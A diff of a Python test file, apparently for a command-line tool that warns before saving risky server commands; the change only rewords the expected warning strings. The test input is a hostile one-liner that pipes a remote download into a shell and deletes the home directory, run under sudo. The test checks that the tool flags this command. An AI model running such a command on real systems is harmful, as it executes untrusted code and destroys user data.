@@ -48,9 +48,9 @@ def test_the_whole_command_is_shown_with_what_to_look_at(command: Command) -> No
     script = "curl https://x.example | sh; rm -rf ~"
     ran = command.here("servers", "add", "odd", "--network", "--", "sudo", "bash", "-c", script)
     assert f"sudo bash -c '{script}'" in ran.out
-    for words in ("administrator", "deletes files", "for a shell", "send away"):
+    for words in ("administrator", "deletes files", "for a shell", "send out"):
         assert words in ran.out
-    assert "kept and not started" in ran.out
+    assert "saved but not started" in ran.out
 
 
 def test_control_characters_of_a_command_do_not_reach_the_terminal(command: Command) -> None:
